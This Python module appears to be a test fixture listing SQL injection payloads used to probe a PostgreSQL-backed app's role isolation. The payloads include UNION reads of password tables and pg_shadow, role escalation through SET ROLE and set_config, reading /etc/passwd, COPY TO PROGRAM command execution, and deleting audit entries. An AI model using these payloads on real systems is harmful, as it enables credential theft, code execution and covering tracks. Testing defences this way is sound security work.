"""What an attacker would type into a form field whose text ends up in SQL.

Each is put into ``SELECT <text column> FROM <table> WHERE <text column> = '…'``. `{role}` is another
login's role name, `{own}` the injected login's own, `{secret}` an owner-only table and column.
"""

PAYLOADS = {
    "union owner table": "' UNION SELECT text FROM customers_interaction--",
    "union person": "' UNION SELECT family_name FROM customers_person--",
    "union accounts": "' UNION SELECT password FROM register_user--",
    "union audit": "' UNION SELECT object_repr FROM register_auditentry--",
    "union context key": "' UNION SELECT encode(\"inner\", 'hex') FROM register_contextkey--",
    "union search copy": "' UNION SELECT text FROM customers_searchdocument--",
    "union jobs": "' UNION SELECT args::text FROM procrastinate_events e, customers_task, procrastinate_jobs--",
    "stacked reset": "'; RESET ROLE; SELECT text FROM customers_interaction--",
    "stacked set role": "'; SET ROLE {role}; SELECT text FROM customers_interaction--",
    "stacked commit": "'; COMMIT; DELETE FROM register_auditentry--",
    "stacked temp table": "'; CREATE TEMP TABLE customers_customer (name text)--",
    "stacked password": "'; ALTER ROLE CURRENT_USER PASSWORD 'x'--",
    "stacked grant": "'; GRANT {role} TO {own}--",
    "stacked session authorization": "'; SET SESSION AUTHORIZATION {role}--",
    "stacked search path": "'; SET search_path = pg_temp--",
    "stacked copy program": "'; COPY (SELECT 1) TO PROGRAM 'id'--",
    "stacked do block": "'; DO $$ BEGIN EXECUTE 'SET ROLE {role}'; END $$--",
    "set_config role": "' UNION SELECT set_config('role', '{role}', true)--",
    "set_config role and xml": (
        "' UNION SELECT set_config('role', '{role}', true) UNION "
        "SELECT query_to_xml('select text from customers_interaction', true, true, '')::text--"
    ),
    "set_config role and ts_stat": (
        "' UNION SELECT set_config('role', '{role}', true) UNION SELECT string_agg(word, ',') FROM "
        "ts_stat('select to_tsvector(''simple'', text) from customers_interaction')--"
    ),
    "set_config session authorization": "' UNION SELECT set_config('session_authorization', '{role}', false)--",
    "set_config row security": "' UNION SELECT set_config('row_security', 'off', false)--",
    "set_config search path": "' UNION SELECT set_config('search_path', 'pg_temp, public', false)--",
    "advisory lock": "' UNION SELECT pg_advisory_lock(7206)::text--",
    "xml of table": "' UNION SELECT table_to_xml('customers_interaction', true, true, '')::text--",
    "xml of schema": "' UNION SELECT schema_to_xml('public', true, true, '')::text--",
    "planner statistics": "' UNION SELECT most_common_vals::text FROM pg_stats--",
    "extended statistics": "' UNION SELECT most_common_vals::text FROM pg_stats_ext--",
    "raw statistics": "' UNION SELECT stavalues1::text FROM pg_statistic--",
    "activity": "' UNION SELECT query FROM pg_stat_activity WHERE usename <> current_user--",
    "passwords": "' UNION SELECT passwd FROM pg_shadow--",
    "authid": "' UNION SELECT rolpassword FROM pg_authid--",
    "file read": "' UNION SELECT pg_read_file('/etc/passwd')--",
    "directory": "' UNION SELECT pg_ls_dir('.')--",
    "large object": "' UNION SELECT lo_from_bytea(0, 'x')::text--",
    "sleep": "' UNION SELECT pg_sleep(3)::text--",
    "notify": "' UNION SELECT pg_notify('procrastinate_any_queue_v1', 'x')::text--",
    "terminate others": "' UNION SELECT pg_terminate_backend(pid)::text FROM pg_stat_activity WHERE pid <> pg_backend_pid()--",
    "dblink": "' UNION SELECT * FROM dblink('', 'select text from customers_interaction') AS t(x text)--",
    "forged actor": "' UNION SELECT set_config('register.context', '1.9999999999.{own}.r.00', true)--",
    "call actor": "' UNION SELECT register_hmac('1.9999999999.{own}.r')--",
    "boolean oracle": "' OR EXISTS (SELECT FROM customers_interaction WHERE text LIKE 'c%')--",
    "lateral oracle": "' OR (SELECT count(*) FROM customers_interaction i, customers_task t) > 0--",
    "writable cte": "' UNION (WITH gone AS (DELETE FROM register_auditentry RETURNING id) SELECT id::text FROM gone)--",
}
